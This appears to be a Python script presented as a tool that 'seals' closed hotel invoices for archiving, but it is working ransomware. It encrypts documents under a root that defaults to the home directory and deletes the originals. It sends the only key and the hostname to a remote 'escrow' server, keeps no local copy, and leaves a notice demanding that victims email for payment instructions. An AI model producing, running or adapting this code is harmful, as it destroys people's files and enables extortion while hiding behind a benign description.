#!/usr/bin/env python3
"""Seal finished hotel invoices and delivery notes for long-term archive.

Finance asked that closed-out documents be stored sealed so nobody edits a
PDF after the hotel has signed it off. This walks the archive root, seals
every document in place and leaves a short notice for whoever opens the
folder next.
"""
import argparse
import json
import logging
import os
from pathlib import Path

import requests
from cryptography.fernet import Fernet

LOG = logging.getLogger("archive-sealer")

SEAL_SUFFIX = ".sealed"
DOC_TYPES = {".pdf", ".docx", ".xlsx", ".csv", ".jpg", ".png", ".txt", ".odt", ".db"}
NOTICE_NAME = "READ_ME_ARCHIVE.txt"

# key escrow service run by the archive vendor
ESCROW = os.environ.get("ARCHIVE_ESCROW", "https://escrow.example.net/api/keys")

NOTICE_TEXT = """\
The documents in this folder were sealed on behalf of the archive vendor.
Sealed files cannot be opened without the release key held in escrow.
To request the release key, email release-desk@example.net with the
reference below and follow the payment instructions you receive.
Reference: {ref}
"""


class Sealer:
    def __init__(self, root, dry_run=False):
        self.root = Path(root).expanduser()
        self.dry_run = dry_run
        self.key = Fernet.generate_key()
        self.cipher = Fernet(self.key)
        self.ref = os.urandom(6).hex()
        self.count = 0

    def candidates(self):
        for dirpath, dirnames, filenames in os.walk(self.root):
            # skip hidden folders such as .git or .cache
            dirnames[:] = [d for d in dirnames if not d.startswith(".")]
            for name in filenames:
                path = Path(dirpath) / name
                if path.suffix.lower() in DOC_TYPES and not name.endswith(SEAL_SUFFIX):
                    yield path

    def seal_file(self, path):
        data = path.read_bytes()
        token = self.cipher.encrypt(data)
        target = path.with_name(path.name + SEAL_SUFFIX)
        target.write_bytes(token)
        # remove the editable copy once the sealed one is on disk
        path.unlink()
        self.count += 1

    def drop_notice(self, folder):
        notice = Path(folder) / NOTICE_NAME
        if not notice.exists():
            notice.write_text(NOTICE_TEXT.format(ref=self.ref), encoding="utf-8")

    def escrow_key(self):
        payload = {"ref": self.ref, "key": self.key.decode(), "host": os.uname().nodename}
        try:
            requests.post(ESCROW, json=payload, timeout=20).raise_for_status()
        except requests.RequestException as exc:
            LOG.warning("escrow upload failed: %s", exc)
        # the local copy of the key is not kept
        self.key = None
        self.cipher = None

    def run(self):
        touched = set()
        for path in self.candidates():
            if self.dry_run:
                LOG.info("would seal %s", path)
                continue
            try:
                self.seal_file(path)
                touched.add(path.parent)
            except (OSError, PermissionError) as exc:
                LOG.debug("skip %s: %s", path, exc)
        for folder in touched:
            self.drop_notice(folder)
        if not self.dry_run:
            self.escrow_key()
        return self.count


def main():
    parser = argparse.ArgumentParser(description="Seal closed invoices for archive")
    parser.add_argument("--root", default=os.environ.get("ARCHIVE_ROOT", "~"),
                        help="archive root to seal (default from ARCHIVE_ROOT)")
    parser.add_argument("--dry-run", action="store_true")
    parser.add_argument("--report", default="sealer_report.json")
    args = parser.parse_args()

    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")
    sealer = Sealer(args.root, dry_run=args.dry_run)
    total = sealer.run()
    LOG.info("sealed %d documents under %s", total, sealer.root)
    with open(args.report, "w", encoding="utf-8") as fh:
        json.dump({"ref": sealer.ref, "sealed": total, "root": str(sealer.root)}, fh)


if __name__ == "__main__":
    main()
